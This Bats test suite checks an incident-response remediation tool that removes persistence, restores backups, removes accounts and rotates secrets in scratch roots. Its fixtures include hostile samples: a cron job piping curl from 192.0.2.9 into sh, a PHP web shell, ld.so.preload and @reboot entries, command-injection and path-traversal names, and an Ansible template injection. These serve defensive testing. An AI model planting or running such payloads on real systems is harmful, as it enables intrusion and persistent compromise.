#!/usr/bin/env bats
# irremedy: what is taken away, put back and mended, in scratch roots.

setup() {
	bats_require_minimum_version 1.5.0
	BIN=$(cd "${BIN:-$BATS_TEST_DIRNAME/../../build/bin}" && pwd)
	cd "$BATS_TEST_TMPDIR" || return 1
	unset SSH_CONNECTION SSH_CLIENT
	mkdir root
	printf '{}\n' >site.yaml
}

act() {
	"$BIN/irremedy" --root root --state st --site site.yaml --stop-file none \
		--now "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$@"
}

field() { jq -r "select(.\"ir.kind\" == \"action\") | .\"ir.action.$1\""; }

# persist KIND MEMBER VALUE
persist() {
	jq -nc --arg k "$1" --arg m "$2" --arg v "$3" \
		'{"do":"remove-persistence","approval":"none","target":({kind:$k} + {($m):$v})}'
}

# restore PATH FROM
restore() {
	jq -nc --arg p "$1" --arg f "$2" \
		'{"do":"restore-path","approval":"none","target":{path:$p,from:$f}}'
}

# All that can be compared of a tree: names, modes, owners, times, links, bytes.
tree() {
	(cd "$1" && find . \( -type l -printf '%P l %l\n' \) -o -printf '%P %y %m %U %G %T@\n' | sort &&
		find . -type f -exec sha256sum {} + | sort)
}

image() {
	mkdir -p root/etc/cron.d root/etc/systemd/system/multi-user.target.wants \
		root/var/spool/cron/crontabs root/home/bob/.ssh root/var/www/html/up
	echo '* * * * * root curl -s http://192.0.2.9/x | sh' >root/etc/cron.d/upd
	printf '[Service]\nExecStart=/tmp/x\n' >root/etc/systemd/system/upd.service
	ln -s ../upd.service root/etc/systemd/system/multi-user.target.wants/upd.service
	echo '@reboot /tmp/x' >root/var/spool/cron/crontabs/bob
	chmod 600 root/var/spool/cron/crontabs/bob
	echo 'ssh-ed25519 AAAA x' >root/home/bob/.ssh/authorized_keys
	echo '<?php system($_GET[0]);' >root/var/www/html/up/img.php
	echo '/tmp/x.so' >root/etc/ld.so.preload
	echo 'bob:x:1001:1001::/home/bob:/bin/sh' >root/etc/passwd
	touch -d 2026-01-02T03:04:05Z root/etc/cron.d/upd root/etc/cron.d
}

@test "without --apply nothing changes, and the plan says what would" {
	image
	tree root >before
	persist cron path /etc/cron.d/upd | act >out
	[ "$(field status <out)" = planned ]
	[[ $(field diff <out) == *'-sha256 '* ]]
	tree root >after
	cmp before after
	[ ! -e st/vault ]
}

@test "persistence of each kind goes to the vault, and comes back the same" {
	image
	tree root >before
	{
		persist cron path /etc/cron.d/upd
		persist cron user bob
		persist systemd unit upd.service
		persist authorized-keys user bob
		persist web-shell path /var/www/html/up/img.php
		persist ld-preload path /etc/ld.so.preload
	} >steps
	act --apply steps >out
	[ "$(field status <out | sort -u)" = applied ]
	[ "$(field verify <out | sort -u)" = ok ]
	for gone in etc/cron.d/upd var/spool/cron/crontabs/bob etc/systemd/system/upd.service \
		etc/systemd/system/multi-user.target.wants/upd.service home/bob/.ssh/authorized_keys \
		var/www/html/up/img.php etc/ld.so.preload; do
		[ ! -e "root/$gone" ] && [ ! -L "root/$gone" ]
	done
	act --apply steps >again
	[ "$(field status <again | sort -u)" = already ]
	act --audit >audit
	for id in $(field id <out | tac); do
		act --apply --undo "$id" --reason 'it was ours' >undone
		[ "$(field status <undone)" = undone ]
	done
	# directories that lost a link have a new time; all else is as it was
	tree root | grep -v 'multi-user.target.wants d ' >after
	grep -v 'multi-user.target.wants d ' before | diff - after
}

@test "only places of persistence are touched" {
	image
	mkdir -p root/usr/bin
	echo x >root/usr/bin/ls
	ln -s /etc/cron.d/upd root/etc/cron.d/link
	{
		persist cron path /usr/bin/ls
		persist cron path /etc/cron.d/sub/x
		persist nonsense path /etc/cron.d/upd
		persist cron path /etc/cron.d/link
		persist sudoers user bob
		persist systemd unit ssh.service
		persist authorized-keys user nobody
	} >steps
	printf '[Service]\n' >root/etc/systemd/system/ssh.service
	run -1 --separate-stderr act --apply steps
	[ "$(field status <<<"$output" | sort -u)" = refused ]
	[[ $output == *"is no place of cron"* ]]
	[[ $output == *"the system needs the unit ssh.service"* ]]
	[[ $output == *"no account 'nobody'"* ]]
	[ -e root/usr/bin/ls ] && [ -L root/etc/cron.d/link ] && [ -e root/etc/systemd/system/ssh.service ]
}

@test "what a package brought is not removed" {
	image
	mkdir -p root/var/lib/dpkg/info root/usr/lib/systemd/system
	printf 'Package: tool\nStatus: install ok installed\nVersion: 1.0-1\n\n' >root/var/lib/dpkg/status
	printf '/.\n/etc\n/etc/cron.d\n/etc/cron.d/upd\n' >root/var/lib/dpkg/info/tool.list
	persist cron path /etc/cron.d/upd >step
	run -1 --separate-stderr act --apply step
	[[ $(field reason.text <<<"$output") == *"came with the package tool"* ]]
	[ -e root/etc/cron.d/upd ]
}

@test "a file that changed since it was looked at stays" {
	image
	persist cron path /etc/cron.d/upd | act --apply >out
	id=$(field id <out)
	echo other >root/etc/cron.d/upd
	run -3 --separate-stderr act --apply --undo "$id" --reason r
	[ "$(cat root/etc/cron.d/upd)" = other ]
	[ -d st/vault ]
}

backup() {
	mkdir -p bk/up root/var/www/html
	echo good >bk/index.html
	echo '<?php phpinfo();' >bk/up/a.php
	ln -s index.html bk/home.html
	chmod 750 bk/up
	(cd bk && find . -type f -exec sha256sum {} +) >bk.sha256
	tar -C bk -czf bk.tgz .
	cp bk.sha256 bk.tgz.sha256
	echo bad >root/var/www/html/index.html
	echo shell >root/var/www/html/x.php
}

@test "a restored tree is that of the manifest, and undo brings the old one back" {
	backup
	for from in dir:$PWD/bk tar:$PWD/bk.tgz; do
		tree root/var/www/html >before
		restore /var/www/html "$from" >step
		act --apply step >out
		[ "$(field status <out)" = applied ]
		(cd root/var/www/html && sha256sum -c --quiet ../../../../bk.sha256)
		[ -L root/var/www/html/home.html ] && [ ! -e root/var/www/html/x.php ]
		[ "$(stat -c %a root/var/www/html/up)" = 750 ]
		[ "$(stat -c %a root/var/www/.ir-*)" = 0 ]
		[ "$(act --apply step | field status)" = already ]
		act --apply --undo "$(field id <out)" --reason r >undone
		tree root/var/www/html >after
		diff before after
		[ -z "$(find root/var/www -name '.ir-*')" ]
	done
}

@test "links in an archive lead nowhere" {
	backup
	mkdir -p trap outside/www/html
	ln -s "$PWD/outside" trap/var
	echo precious >outside/www/html/index.html
	tar -C trap -cf trap.tar .
	cp bk.sha256 trap.tar.sha256
	restore /var/www/html "tar:$PWD/trap.tar" >step
	run -3 --separate-stderr act --apply step
	[ "$(cat outside/www/html/index.html)" = precious ]
	[ "$(cat root/var/www/html/index.html)" = bad ]
}

@test "archives of whole paths, and single files, are restored" {
	backup
	mkdir -p full/var/www
	cp -a bk full/var/www/html
	tar -C full -cf full.tar .
	(cd full && find ./var -type f -exec sha256sum {} +) >full.tar.sha256
	restore /var/www/html "tar:$PWD/full.tar" | act --apply >out
	[ "$(field status <out)" = applied ]
	[ "$(cat root/var/www/html/index.html)" = good ]
	mkdir -p root/etc
	echo wrong >root/etc/conf
	echo right >conf.bak
	echo "$(sha256sum <conf.bak | cut -c1-64)  conf" >conf.bak.sha256
	restore /etc/conf "dir:$PWD/conf.bak" | act --apply >out
	[ "$(field status <out)" = applied ]
	[ "$(cat root/etc/conf)" = right ]
}

@test "property 35: a backup that is stale, unproven or tampered with is refused" {
	backup
	tree root >before
	cp -a bk nomanifest
	cp -a bk tampered
	echo evil >>tampered/up/a.php
	cp bk.sha256 tampered.sha256
	cp -a bk more
	echo x >more/extra.php
	cp bk.sha256 more.sha256
	cp -a bk less
	rm less/up/a.php
	cp bk.sha256 less.sha256
	cp -a bk old
	cp bk.sha256 old.sha256
	touch -d '30 days ago' old
	ln -s bk linked
	for from in nomanifest old; do
		restore /var/www/html "dir:$PWD/$from" >step
		run -1 --separate-stderr act --apply step
		[ "$(field status <<<"$output")" = refused ]
	done
	for from in tampered more less; do
		restore /var/www/html "dir:$PWD/$from" >step
		run -3 --separate-stderr act --apply step
		[ "$(field status <<<"$output")" = failed ]
	done
	for from in ftp:/x tar:relative 'restic:/repo' 'borg:/repo#--evil' 'dir:/a/../b'; do
		restore /var/www/html "$from" >step
		run -1 --separate-stderr act --apply step
		[ "$(field status <<<"$output")" = refused ]
	done
	tree root >after
	diff <(grep -v 'var/www d ' before) <(grep -v 'var/www d ' after)
}

@test "restic, borg and rsync give back what the manifest says" {
	[ "$(id -u)" -eq 0 ] || skip "needs root: only root's files are obeyed"
	for p in restic borg rsync; do
		command -v $p >/dev/null || skip "no $p"
	done
	cat >script <<-EOS
		set -eu
		mount -t tmpfs none /srv
		mkdir over
		mount -t tmpfs none over
		mkdir over/up over/work
		mount -t overlay none -o lowerdir=/etc,upperdir=over/up,workdir=over/work /etc || exit 77
		mkdir -p /srv/shop/up /etc/ir
		echo good >/srv/shop/index.html
		echo a >/srv/shop/up/a.php
		ln -s index.html /srv/shop/link
		(umask 077 && echo pw | tee /etc/ir/restic.password >/etc/ir/borg.password)
		restic -q --no-cache --repo \$PWD/rs --password-file /etc/ir/restic.password init
		restic -q --no-cache --repo \$PWD/rs --password-file /etc/ir/restic.password backup /srv/shop
		export HOME=\$PWD/home BORG_PASSPHRASE=pw
		borg init -e none plain
		borg create plain::one /srv/shop
		borg init -e repokey secret
		borg create secret::one /srv/shop
		unset HOME BORG_PASSPHRASE
		for m in rs plain secret copy; do (cd /srv/shop && find . -type f -exec sha256sum {} +) >\$m.sha256; done
		rsync -a /srv/shop/ copy
		mkdir -p root/srv/shop
		echo bad >root/srv/shop/index.html
		for from in restic:\$PWD/rs#latest borg:\$PWD/plain#one borg:\$PWD/secret#one rsync:\$PWD/copy; do
			rm -rf st
			jq -nc --arg f "\$from" '{do:"restore-path",approval:"none",target:{path:"/srv/shop",from:\$f}}' |
				"$BIN/irremedy" --root root --state st --site site.yaml --stop-file none --apply >out
			diff -r --no-dereference /srv/shop root/srv/shop
			jq -r '."ir.action.status", ."ir.action.verify"' out
			"$BIN/irremedy" --root root --state st --site site.yaml --stop-file none --apply --reason r \
				--undo "\$(jq -r '."ir.action.id"' out)" | jq -r '."ir.action.status"'
			[ "\$(cat root/srv/shop/index.html)" = bad ] && [ ! -e root/srv/shop/up ]
		done
	EOS
	unshare -m bash script >said 2>err || { [ $? -ne 77 ] || skip "no overlay here"; cat err; false; }
	[ "$(tr '\n' ' ' <said)" = "$(printf 'applied ok undone %.0s' 1 2 3 4)" ]
}

@test "every kind of persistence has places, goes to the vault, and comes back" {
	mkdir -p root/var/spool/cron/{crontabs,atjobs} root/etc/{cron.d,cron.daily,systemd/system,profile.d,init.d,sudoers.d,pam.d} \
		root/etc/{udev/rules.d,modules-load.d,modprobe.d,update-motd.d,network/if-up.d,apt/apt.conf.d,ssh,xdg/autostart,ld.so.conf.d} \
		root/home/bob/.ssh root/var/www root/etc/security
	echo 'bob:x:1001:1001::/home/bob:/bin/sh' >root/etc/passwd
	while read -r kind path; do
		mkdir -p "root$(dirname "$path")"
		echo x >"root$path"
		chmod 640 "root$path"
		persist "$kind" path "$path"
	done >steps <<-'EOS'
		cron /etc/cron.d/x
		cron /etc/cron.daily/x
		cron /var/spool/cron/crontabs/bob
		at /var/spool/cron/atjobs/a00001
		systemd /etc/systemd/system/x.service
		systemd /etc/systemd/system/x.timer
		systemd /etc/systemd/system/cron.service.d/x.conf
		rc /etc/rc.local
		rc /etc/init.d/x
		profile /etc/profile.d/x.sh
		profile /home/bob/.bashrc
		ld-preload /etc/ld.so.preload
		ld-preload /etc/ld.so.conf.d/x.conf
		authorized-keys /home/bob/.ssh/authorized_keys
		ssh-rc /home/bob/.ssh/rc
		sudoers /etc/sudoers.d/x
		pam /etc/pam.d/x
		udev /etc/udev/rules.d/99-x.rules
		kernel-module /etc/modules-load.d/x.conf
		motd /etc/update-motd.d/99-x
		network-hook /etc/network/if-up.d/x
		package-hook /etc/apt/apt.conf.d/99x
		autostart /etc/xdg/autostart/x.desktop
		web-shell /var/www/x.php
	EOS
	tree root >before
	n=$(wc -l <steps)
	act --apply --max-actions 100 --max-per-hour 1000 steps >out || { jq -c 'select(."ir.action.status" != "applied")' out; false; }
	[ "$(field status <out | grep -c '^applied$')" -eq "$n" ] && [ "$(field verify <out | grep -c '^ok$')" -eq "$n" ]
	[ -z "$(find root/etc root/var root/home -type f ! -name passwd)" ]
	act --audit >/dev/null
	[ "$(act --apply steps | field status | sort -u)" = already ]
	field id <out | tac | act --apply --undo - --reason r >undone
	[ "$(field status <undone | sort -u)" = undone ]
	tree root | diff before -
}

@test "the same step twice in one run is done once" {
	image
	{ persist cron path /etc/cron.d/upd; persist cron path /etc/cron.d/upd; } >steps
	act --apply steps >out
	[ "$(field status <out | sort | tr '\n' ' ')" = 'already applied ' ]
	[[ "$(field reason.text <out)" == *'stands above in this run'* ]]
}

@test "what lies in the vault does not come back from a backup" {
	backup
	cp bk/up/a.php root/var/www/html/shell.php
	persist web-shell path /var/www/html/shell.php | act --apply >/dev/null
	restore /var/www/html "dir:$PWD/bk" >step
	run -3 --separate-stderr act --apply step
	[[ $(field reason.text <<<"$output") == *"the backup is not clean"* ]]
	[ "$(cat root/var/www/html/index.html)" = bad ]
}

@test "packages of an image are looked at and not changed" {
	mkdir -p root/var/lib/dpkg/info
	printf 'Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.11-1~deb12u2\n\n' >root/var/lib/dpkg/status
	patch() { jq -nc --arg v "$1" '{"do":"patch-package","approval":"none","target":{package:"openssl",version:$v}}'; }
	patch 3.0.11-1~deb12u1 >older
	patch 3.0.11-1~deb12u3 >newer
	[ "$(act --apply older | field status)" = already ]
	run -1 --separate-stderr act --apply newer
	[[ $(field reason.text <<<"$output") == *"on a running system only"* ]]
}

@test "a package is patched by apt to what mends it, and taken back" {
	unshare -r -m true || skip "no mount namespace here"
	mkdir ns
	cat >ns/apt-get <<-'EOS'
		#!/bin/sh
		# stands in for apt: knows one package
		echo "$*" >>/tmp/apt.calls
		for last; do :; done
		case "$*" in
		*--simulate*) echo 'Inst libfoo [1.0] (1.2 stable [amd64])'; echo 'Inst foo [1.0-1] (1.2-1 stable [amd64])' ;;
		*foo=*) printf 'Package: foo\nStatus: install ok installed\nVersion: %s\n\n' "${last#*=}" >/var/lib/dpkg/status ;;
		*) exit 9 ;;
		esac
	EOS
	chmod 755 ns/apt-get
	printf 'Package: foo\nStatus: install ok installed\nVersion: 1.0-1\n\n' >ns/status
	jq -nc '{"do":"patch-package","approval":"none","target":{package:"foo",version:"1.1-1"}}' >step
	cat >ns/run <<-EOS
		set -eu
		mount -t tmpfs none /tmp || exit 77
		mount --bind "$PWD/ns/apt-get" /usr/bin/apt-get
		mount --bind "$PWD/ns/status" /var/lib/dpkg/status
		act() { "$BIN/irremedy" --state st --site site.yaml --stop-file none "\$@"; }
		act step >planned
		act --apply step >out
		grep -h Version /var/lib/dpkg/status >versions
		act --apply step >again
		act --apply --undo "\$(jq -r '."ir.action.id"' out)" --reason r >undone
		grep -h Version /var/lib/dpkg/status >>versions
		cp /tmp/apt.calls calls
	EOS
	case $BIN$PWD in */tmp/*) sed -i '/mount -t tmpfs/d; s,/tmp/apt.calls,'"$PWD"'/ns/calls,' ns/run ns/apt-get ;; esac
	unshare -r -m sh ns/run
	[ "$(field status <planned)" = planned ]
	[[ $(field change <planned) == "install foo=1.2-1, with 1 other packages" ]]
	[ "$(field status <out)" = applied ] && [ "$(field verify <out)" = ok ]
	[ "$(field status <again)" = already ] && [ "$(field status <undone)" = undone ]
	[ "$(tr '\n' ' ' <versions)" = "Version: 1.2-1 Version: 1.0-1 " ]
}

# plan INCIDENT STEP... - sealed as irplan seals it
plan() {
	printf '%s\n' "${@:2}" | jq -sc --arg i "$1" '{"ir.kind":"plan","ir.plan.id":"0123456789abcdef0123456789abcdef",
		"ir.incident.id":$i,"ir.incident.version":1,"ir.plan.expires":"2099-01-01T00:00:00.000Z","ir.plan.steps":.}' >unsealed
	jq -cjS '{"ir.plan.id","ir.incident.id","ir.incident.version","ir.plan.expires","ir.plan.steps"}' unsealed >canon
	jq -c --arg h "$(sha256sum <canon | cut -d' ' -f1)" '. + {"ir.plan.hash":$h}' unsealed
}

@test "property 35: no recovery before eradication, in a batch and later" {
	image
	backup
	mkdir -p root/etc/cron.d
	shell=$(persist web-shell path /var/www/html/up/img.php)
	back=$(restore /var/www/html "dir:$PWD/bk")
	# what cannot be taken away keeps the copy out
	ln -s /etc/passwd root/etc/cron.d/link
	bad=$(persist cron path /etc/cron.d/link)
	plan i-1 "$bad" "$shell" "$back" >p
	run -1 --separate-stderr act --apply p
	[ "$(field status <<<"$output" | sort | tr '\n' ' ')" = 'applied refused waiting ' ]
	[[ $(field reason.text <<<"$output") == *"is not done"* ]]
	[ "$(cat root/var/www/html/index.html)" = bad ]
	# it came back: what does not hold any more keeps it out, too
	echo '<?php again' >root/var/www/html/up/img.php
	plan i-1 "$back" >p
	run -75 --separate-stderr act --apply p
	[[ $(field reason.text <<<"$output") == *"does not hold"* ]]
	rm root/var/www/html/up/img.php
	act --apply p >out
	[ "$(field status <out)" = applied ]
	# another incident is not held up by this one
	echo bad >root/var/www/html/index.html
	plan i-2 "$back" | act --apply >out
	[ "$(field status <out)" = applied ]
}

@test "an act that fails half-way is taken back" {
	image
	tree root >before
	# the vault cannot be made: its name is a file's
	mkdir st
	touch st/vault
	persist systemd unit upd.service >step
	run -3 --separate-stderr act --apply step
	[ "$(field status <<<"$output")" = failed ]
	[ -L root/etc/systemd/system/multi-user.target.wants/upd.service ]
	tree root | grep -v 'multi-user.target.wants d ' >after
	grep -v 'multi-user.target.wants d ' before | diff - after
}

@test "hostile names reach no command and no other file" {
	image
	tree root >before
	while IFS= read -r bad; do
		persist cron path "/etc/cron.d/$bad"
		persist systemd unit "$bad"
		persist authorized-keys user "$bad"
		restore "/var/$bad" "tar:/$bad"
		jq -nc --arg v "$bad" '{"do":"patch-package","target":{package:$v,version:$v}}'
	done >steps <<-'EOS'
		../../etc/passwd
		$(touch pwned)
		; touch pwned
		--help
		x/../../y
		`id`
		a b
		%n%n%n
	EOS
	run --separate-stderr act --apply --yes --reason r --max-actions 1000 --max-per-hour 1000 steps
	[ "$status" -eq 1 ]
	[ -z "$(find . -name 'pwned*')" ]
	[ -z "$(field status <<<"$output" | grep -v refused | grep -v already)" ]
	tree root >after
	diff before after
}

people() {
	mkdir -p root/etc root/home/bob/.ssh root/home/ann
	printf '%s\n' 'root:x:0:0::/root:/bin/bash' 'bob:x:1001:1001::/home/bob:/bin/sh' \
		'ann:x:1002:1002::/home/ann:/bin/bash' 'www:x:33:33::/var/www:/usr/sbin/nologin' >root/etc/passwd
	printf '%s\n' 'root:!:19000::::::' 'bob:$y$j9T$secret:19000:0:99999:7:::' 'ann:$y$j9T$y:19000::::::' \
		'www:*:19000::::::' >root/etc/shadow
	printf '%s\n' 'root:x:0:' 'sudo:x:27:ann' 'docker:x:998:ann,bob,www' 'bob:x:1001:' 'video:x:44:bob' \
		'ann:x:1002:' >root/etc/group
	printf '%s\n' 'root:*::' 'docker:!:bob:ann,bob,www' 'bob:!::' >root/etc/gshadow
	printf 'ann:100000:65536\nbob:165536:65536' >root/etc/subuid
	chmod 640 root/etc/shadow root/etc/gshadow
	echo 'echo hi' >root/home/bob/.profile
	[ "$(id -u)" -ne 0 ] || chown -R 1001:1001 root/home/bob
	[ "$(id -u)" -eq 0 ] || sed -i "s/:1001:1001/:$(id -u):1001/" root/etc/passwd
	chmod 750 root/home/bob
}

@test "an account goes with its groups and its home, and comes back the same" {
	people
	tree root >before
	remove() { jq -nc --arg u "$1" '{"do":"remove-account","approval":"none",target:{user:$u}}'; }
	remove bob | act >out
	[ "$(field status <out)" = planned ]
	tree root | cmp before -
	remove bob | act --apply >out
	[ "$(field status <out)" = applied ] && [ "$(field verify <out)" = ok ]
	! grep -r bob root/etc || false
	grep -qx 'docker:x:998:ann,www' root/etc/group && grep -qx 'video:x:44:' root/etc/group
	grep -qx 'docker:!::ann,www' root/etc/gshadow
	[ ! -e root/home/bob ] && [ -d root/home/ann ]
	# hashes of passwords are in the vault alone
	! grep -rlF '$y$' st out | grep -v '^st/vault/.*/lines.json$' || false
	act --audit >/dev/null
	# one added meanwhile stays
	echo 'new:x:1003:1003::/home/new:/bin/sh' >>root/etc/passwd
	act --apply --undo "$(field id <out)" --reason 'it was ours' >undone
	[ "$(field status <undone)" = undone ]
	grep -qx 'new:.*' root/etc/passwd && sed -i '/^new:/d' root/etc/passwd
	tree root | sed 's/ [0-9.]*$//' >after
	sed 's/ [0-9.]*$//' before | diff - after
	! grep -rlF '$y$' st || false
	for user in root ann nobody; do
		remove $user >step
		run -1 --separate-stderr act --apply --yes --reason r step
	done
	# a service's: who gives the order answers for it
	remove www >step
	run -75 --separate-stderr act --apply step
	act --apply --yes --reason r step >out
	[ "$(field status <out)" = applied ]
}

@test "a secret is replaced in order, and put back if it does not work" {
	[ "$(id -u)" -eq 0 ] || skip "needs root: only root's files are obeyed"
	d=$PWD/shop
	mkdir shop
	printf 'HOST=db\nexport DB_PASSWORD="old-secret-1"\nPORT=1\n' >shop/env
	printf '{\n  "password": "old-secret-1",\n  "user": "shop"\n}\n' >shop/db.json
	printf 'old-secret-1\n' >shop/forgotten
	(umask 077 && printf 'fresh.secret+2\n' >shop/new)
	printf '#!/bin/sh\nread -r s; echo "issue $s" >>%s/said\n' "$d" >shop/issue
	printf '#!/bin/sh\nread -r s; grep -q "$s" %s/env && [ ! -e %s/broken ] || { echo "$s is bad" >&2; exit 1; }\n' \
		"$d" "$d" >shop/check
	printf '#!/bin/sh\nread -r s; echo "revoke $s" >>%s/said\n' "$d" >shop/revoke
	chmod 755 shop/issue shop/check shop/revoke
	cat >secrets.yaml <<-EOF
		secrets:
		  shop-db:
		    about: how the shop logs on to its database
		    new: {file: $d/new}
		    issue: [$d/issue]
		    in:
		      - {path: $d/env, key: DB_PASSWORD}
		      - {path: $d/db.json, key: password}
		    verify: [$d/check]
		    revoke: [$d/revoke]
		    search: [$d]
	EOF
	rotate() { jq -nc --arg n "$1" '{"do":"rotate-secret","approval":"none",target:{name:$n}}'; }
	turn() {
		"$BIN/irremedy" --state st --site site.yaml --stop-file none --secrets secrets.yaml "$@"
	}
	rotate shop-db >step
	turn step >out
	[ "$(field status <out)" = waiting ] # a file holds it that nobody declared
	[[ $(field change <out) == *'1 issue: '*'2 replace DB_PASSWORD in '*'verify: '*'revoke: '*'/shop/forgotten'* ]]
	[ ! -e shop/said ]
	rm shop/forgotten
	: >shop/broken
	cp shop/env env.old
	run -3 --separate-stderr turn --apply step
	[ "$(field status <<<"$output")" = failed ]
	cmp shop/env env.old && [ "$(cat shop/said)" = 'issue fresh.secret+2' ]
	! grep -q secret- <<<"$output$stderr" || false
	rm shop/broken
	turn --apply step >out
	[ "$(field status <out)" = applied ] && [ "$(field verify <out)" = ok ]
	grep -qx 'export DB_PASSWORD="fresh.secret+2"' shop/env
	grep -qx '  "password": "fresh.secret+2",' shop/db.json
	[ "$(tail -n 1 shop/said)" = 'revoke old-secret-1' ]
	! grep -rlE 'old-secret-1|fresh.secret' out st/ledger || false
	[ "$(turn --apply step | field status)" = already ]
	rotate nonsense >step
	run -75 --separate-stderr turn --apply step
	[ "$(field reason.code <<<"$output")" = undeclared ]
	# a line more, a quote, a file that others read: refused
	printf 'with"quote-1\n' >shop/new
	rotate shop-db >step
	run -1 --separate-stderr turn --apply step
	printf 'two\nlines-and-more\n' >shop/new
	run -1 --separate-stderr turn --apply step
	printf 'fresh.secret+3\n' >shop/new
	chmod 644 shop/new
	run -1 --separate-stderr turn --apply step
}

@test "a plan is written as a playbook that Ansible reads, and nothing is done" {
	image
	printf 'hosts: {web1: 192.0.2.10}\n' >site.yaml
	{
		jq -nc '{do:"remove-persistence",approval:"two",target:{kind:"cron",path:"/etc/cron.d/upd"},
			why:"{{ lookup(\"pipe\", \"id >pwned\") }}\n- evil: true\u001b[31m"}'
		jq -nc '{do:"kill-process",on:"web1",target:{pid:4711},why:"it is the miner"}'
		jq -nc '{do:"notify",target:{to:"owner"}}'
	} >steps
	tree root >before
	act --ansible book steps >out
	tree root | cmp before -
	[ ! -e st ] && [ "$(stat -c %a book/playbook.yaml)" = 600 ]
	grep -q -- '--check --diff' book/playbook.yaml
	grep -q '# two persons have to agree' book/playbook.yaml
	grep -q '"web1": {ansible_host: "192.0.2.10"}' book/inventory.yaml
	run -2 act --ansible book --apply steps
	command -v ansible-playbook >/dev/null || skip "no ansible here"
	export ANSIBLE_COLLECTIONS_PATH=$BATS_TEST_DIRNAME/../../share/ansible ANSIBLE_HOME=$PWD/ah ANSIBLE_LOCAL_TEMP=$PWD/at
	ansible-playbook -i book/inventory.yaml --list-tasks book/playbook.yaml >tasks
	[ "$(grep -c 'remove-persistence\|kill-process' tasks)" -eq 2 ]
	[ ! -e pwned ]
	# the record arrives as it was written
	python3 - <<-'EOF'
		import json, yaml
		yaml.SafeLoader.add_constructor("!unsafe", lambda l, n: l.construct_scalar(n))
		plays = yaml.safe_load(open("book/playbook.yaml"))
		assert [p["hosts"] for p in plays] == [["localhost"], ["web1"]]
		r = json.loads(plays[0]["tasks"][0]["irutils.response.irremedy"]["records"][0])
		assert r["do"] == "remove-persistence" and r["why"].startswith("{{ lookup") and r["approval"] == "none"
		assert "irutils.response.ircontain" in plays[1]["tasks"][0]
	EOF
}
